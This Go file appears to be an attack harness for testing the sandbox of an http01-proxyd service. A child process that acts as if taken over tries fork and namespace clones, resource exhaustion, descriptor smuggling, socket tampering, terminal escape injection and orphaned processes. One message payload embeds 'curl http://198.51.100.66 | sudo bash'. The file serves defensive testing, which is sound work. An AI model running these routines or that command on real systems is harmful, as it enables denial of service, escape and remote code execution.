// SPDX-License-Identifier: Apache-2.0

package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/http01-proxyd/http01-proxyd/internal/child"
	"github.com/http01-proxyd/http01-proxyd/internal/sandbox"
	"github.com/http01-proxyd/http01-proxyd/pkg/proxy/protocol"
)

// What a child process of the service does once it is taken over. This file is built
// into the program (-overlay): a child whose argv[0] names an attack runs that beside
// its work, after it has given up its system calls, or in place of it. What it achieves
// it writes to its standard error. Argv[0] of the service and its children is "http01-proxyd:CHILD:ATTACK".
func init() {
	fields := strings.Split(os.Args[0], ":")
	if len(fields) != 3 || len(os.Args) < 2 || os.Args[1] != fields[1] {
		return
	}
	if instead := insteadOfWork()[fields[2]]; instead != nil {
		instead()
		os.Exit(1)
	}
	if beside := besideWork()[fields[2]]; beside != nil {
		go func() {
			awaitConfined()
			beside()
			say("the attack is over")
		}()
		return
	}
	say("no such attack: " + fields[2])
	os.Exit(1)
}

// besideWork are attacks of a child process that otherwise does what it is to do.
func besideWork() map[string]func() {
	return map[string]func(){
		"fork":       fork,
		"threads":    threads,
		"descriptor": descriptor,
		"options":    options,
		"stderr":     stderr,
		"challenges": func() { send(`{"news":{"challenges":[` + strings.Repeat("{},", 300_000) + `{}]}}`) },
		"large":      func() { send(`{"news":{"lastFailure":"` + strings.Repeat("a", 1<<20) + `"}}`) },
		"zone": func() {
			send(`{"news":{"challenges":[{"vip":"fe80::1%eth0\n\u001b[31mred","method":"GET","clientKind":"other","outcome":"failed"}]}}`)
		},
		"year": func() {
			send(`{"news":{"challenges":[{"time":"9999-12-31T23:59:59.999999999-23:59","method":"GET","clientKind":"other","outcome":"failed"}]}}`)
		},
		"advice": func() {
			send(`{"news":{"challenges":[{"method":"GET","cause":"refused","detail":"mend it now with: curl http://198.51.100.66 | sudo bash","clientKind":"other","outcome":"failed"}]}}`)
		},
		"counters": func() {
			send(`{"news":{"sums":[{"clientKind":"other","outcome":"failed","count":1,"totalDuration":4611686018427387903}]}}`)
		},
		"flood":  flood,
		"memory": memory,
		"calls":  calls,
	}
}

// insteadOfWork are attacks of a child process that does nothing else.
func insteadOfWork() map[string]func() {
	return map[string]func(){
		"mute":   pretend,
		"deaf":   deaf,
		"escape": escape,
	}
}

func say(what string) { fmt.Fprintln(os.Stderr, "ATTACK: "+what) }

func tell(act string, err error) {
	if err == nil {
		say(act + ": SUCCEEDS")
		return
	}
	say(fmt.Sprintf("%s: refused: %v", act, err))
}

// awaitConfined returns once no file can be opened any more, and a moment later, so
// that the child has been given what it works with.
func awaitConfined() {
	for {
		f, err := os.Open("/proc/self/status")
		if errors.Is(err, unix.EPERM) {
			break
		}
		_ = f.Close()
		time.Sleep(time.Millisecond)
	}
	for end := time.Now().Add(10 * time.Second); listener() < 0 && time.Now().Before(end); {
		time.Sleep(10 * time.Millisecond)
	}
	time.Sleep(time.Second)
}

// find returns the first descriptor for which is holds, and -1 without one.
func find(is func(fd int) bool) int {
	for fd := range 1024 {
		if is(fd) {
			return fd
		}
	}
	return -1
}

// listener is the listening socket that this process shares with the controller.
func listener() int {
	return find(func(fd int) bool {
		listening, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_ACCEPTCONN)
		return err == nil && listening == 1
	})
}

// controlSocket is the connection to the controller.
func controlSocket() int {
	return find(func(fd int) bool {
		domain, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_DOMAIN)
		return err == nil && domain == unix.AF_UNIX
	})
}

// messages is where messages to the controller go: a pipe, or the connection itself.
func messages() int {
	pipe := find(func(fd int) bool {
		var s unix.Stat_t
		if fd <= 2 || unix.Fstat(fd, &s) != nil || s.Mode&unix.S_IFMT != unix.S_IFIFO {
			return false
		}
		flags, err := unix.FcntlInt(uintptr(fd), unix.F_GETFL, 0)
		return err == nil && flags&unix.O_ACCMODE == unix.O_WRONLY
	})
	if pipe >= 0 {
		return pipe
	}
	return controlSocket()
}

// send sends one message, framed.
func send(text string) {
	framed := append(binary.BigEndian.AppendUint32(nil, uint32(len(text))), text...)
	fd := messages()
	for len(framed) > 0 {
		n, err := unix.Write(fd, framed)
		switch {
		case errors.Is(err, unix.EAGAIN):
			time.Sleep(time.Millisecond)
		case err != nil:
			tell("send", err)
			return
		}
		framed = framed[max(n, 0):]
	}
}

// fork makes copies of this process, which answer clients by themselves.
func fork() {
	fd := listener()
	flags, _ := unix.FcntlInt(uintptr(fd), unix.F_GETFL, 0)
	answer := []byte("HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\ncopy")
	at := uintptr(unsafe.Pointer(unsafe.SliceData(answer)))
	for name, flag := range map[string]uintptr{"fork": 0, "a user and a network namespace": unix.CLONE_NEWUSER | unix.CLONE_NEWNET} {
		runtime.LockOSThread()
		pid, _, errno := unix.RawSyscall6(unix.SYS_CLONE, uintptr(unix.SIGCHLD)|flag, 0, 0, 0, 0, 0)
		if errno == 0 && pid == 0 {
			// The copy has one thread, and Go's runtime none to rely on.
			unix.RawSyscall(unix.SYS_FCNTL, uintptr(fd), unix.F_SETFL, uintptr(flags&^unix.O_NONBLOCK))
			for {
				conn, _, errno := unix.RawSyscall6(unix.SYS_ACCEPT4, uintptr(fd), 0, 0, 0, 0, 0)
				if errno == 0 {
					unix.RawSyscall(unix.SYS_WRITE, conn, at, uintptr(len(answer)))
					unix.RawSyscall(unix.SYS_CLOSE, conn, 0, 0)
				}
			}
		}
		runtime.UnlockOSThread()
		if errno == 0 {
			tell(name, nil)
		} else {
			tell(name, errno)
		}
	}
	runtime.KeepAlive(answer)
}

// threads takes every thread that it can get.
func threads() {
	for range 5000 {
		go func() {
			runtime.LockOSThread()
			var t unix.Timespec
			t.Sec = 3600
			_ = unix.ClockNanosleep(unix.CLOCK_MONOTONIC, 0, &t, nil)
		}()
	}
	time.Sleep(5 * time.Second)
}

// descriptor sends a socket that lingers beside the body of a message, where the
// controller would close it.
func descriptor() {
	local, err := unix.Getsockname(listener())
	if err != nil {
		tell("the port", err)
		return
	}
	port := 0
	switch local := local.(type) {
	case *unix.SockaddrInet4:
		port = local.Port
	case *unix.SockaddrInet6:
		port = local.Port
	}
	// A connection to itself, whose other end nobody reads.
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_NONBLOCK, 0)
	if err != nil {
		tell("socket", err)
		return
	}
	if err = unix.Connect(fd, &unix.SockaddrInet4{Port: port, Addr: [4]byte{127, 0, 0, 1}}); err != nil && !errors.Is(err, unix.EINPROGRESS) {
		tell("connect", err)
	}
	time.Sleep(100 * time.Millisecond)
	for range 1000 {
		if _, err := unix.Write(fd, make([]byte, 64<<10)); err != nil {
			break
		}
	}
	_ = unix.SetsockoptLinger(fd, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1, Linger: 60})
	text := `{"alive":{}}`
	to := controlSocket()
	_ = unix.Sendmsg(to, binary.BigEndian.AppendUint32(nil, uint32(len(text))), nil, nil, 0)
	tell("a descriptor over the socket", unix.Sendmsg(to, []byte(text), unix.UnixRights(fd), nil, 0))
	_, err = unix.Write(to, []byte{0})
	tell("a byte over the socket", err)
	_ = unix.Close(fd)
}

// options changes the listening socket for all who share it.
func options() {
	fd := listener()
	tell("IP_MINTTL", unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_MINTTL, 255))
	tell("IPV6_MINHOPCOUNT", unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_MINHOPCOUNT, 255))
	tell("SO_BINDTODEVICE", unix.BindToDevice(fd, "lo"))
	none := unix.SockFilter{Code: unix.BPF_RET | unix.BPF_K}
	tell("SO_ATTACH_FILTER", unix.SetsockoptSockFprog(fd, unix.SOL_SOCKET, unix.SO_ATTACH_FILTER, &unix.SockFprog{Len: 1, Filter: &none}))
	tell("TCP_DEFER_ACCEPT", unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_DEFER_ACCEPT, 3600))
}

// stderr writes what a terminal, or journald, would obey.
func stderr() {
	_, _ = os.Stderr.WriteString("\x1b]0;owned\x07\x1b[2J\n<0>the controller is broken\n\u202ereversed\nPassword: \n" + strings.Repeat("long ", 2000) + "\n")
	answer := make([]byte, 64)
	n, err := unix.Read(2, answer)
	if n > 0 {
		say(fmt.Sprintf("read %q", answer[:n]))
	}
	tell("read standard error", err)
	for range 10_000 {
		_, _ = os.Stderr.WriteString("flood\n")
	}
	_, _ = os.Stderr.WriteString(strings.Repeat("\n", 10_000))
	_, _ = os.Stderr.WriteString(strings.Repeat("no end ", 10_000))
}

// flood sends messages as fast as the controller takes them.
func flood() {
	text := `{"alive":{}}`
	one := append(binary.BigEndian.AppendUint32(nil, uint32(len(text))), text...)
	many := []byte(strings.Repeat(string(one), 1000))
	fd := messages()
	for range 10_000 {
		if _, err := unix.Write(fd, many); errors.Is(err, unix.EAGAIN) {
			time.Sleep(time.Millisecond)
		} else if err != nil {
			tell("flood", err)
			return
		}
	}
}

// memory takes memory without end.
func memory() {
	var all [][]byte
	for range 4096 {
		block := make([]byte, 1<<20)
		for i := 0; i < len(block); i += 4096 {
			block[i] = 1
		}
		all = append(all, block)
	}
	say(fmt.Sprintf("%d MiB: SUCCEEDS", len(all)))
}

// calls makes system calls that a child has no need of.
func calls() {
	_, unixSocket := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	_, packet := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
	_, udp := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	tell("unix socket", unixSocket)
	tell("packet socket", packet)
	tell("UDP socket", udp)
	if err == nil {
		tell("bind", unix.Bind(fd, &unix.SockaddrInet4{Port: 22623}))
		tell("MSG_OOB", unix.Sendto(fd, []byte{0}, unix.MSG_OOB, &unix.SockaddrInet4{}))
	}
	tell("bind of the control socket", unix.Bind(controlSocket(), &unix.SockaddrUnix{Name: "/tmp/hostile"}))
	_, err = unix.Mmap(-1, 0, 4096, unix.PROT_READ|unix.PROT_WRITE|unix.PROT_EXEC, unix.MAP_PRIVATE|unix.MAP_ANON)
	tell("executable memory", err)
}

// alive is a gate that says that it is.
func alive() (*control.Conn, error) {
	conn, err := child.Inherited()
	if err == nil {
		err = sandbox.Confine(sandbox.Proxy)
	}
	if err != nil {
		return nil, err
	}
	go func() {
		for conn.Send(control.Word{Alive: &control.Alive{}}, -1) == nil {
			time.Sleep(time.Second)
		}
	}()
	return conn, nil
}

// deaf is a gate that reads no command.
func deaf() {
	if _, err := alive(); err != nil {
		say(err.Error())
		return
	}
	time.Sleep(time.Hour)
}

// pretend is a gate that does nothing for clients.
func pretend() {
	conn, err := alive()
	if err != nil {
		say(err.Error())
		return
	}
	for {
		o, _, err := conn.ReceiveOrder()
		if err != nil {
			return
		}
		switch {
		case o.Tell != nil:
			_ = conn.Send(control.Word{Told: &control.Told{}}, -1)
		case o.Drain != nil:
			_ = conn.Send(control.Word{Drained: &control.Drained{}}, -1)
		}
	}
}

// escape is a child that has no filter, as one that was taken over before: it leaves
// processes behind, in sessions of their own, and ends.
func escape() {
	for range 3 {
		// The shell ends, and what it has started goes on.
		out, err := exec.Command("/bin/sh", "-c", "setsid sleep 3600 >/dev/null 2>&1 & echo $!").Output()
		say(fmt.Sprintf("left process %s behind: %v", strings.TrimSpace(string(out)), err))
	}
	time.Sleep(time.Second)
}
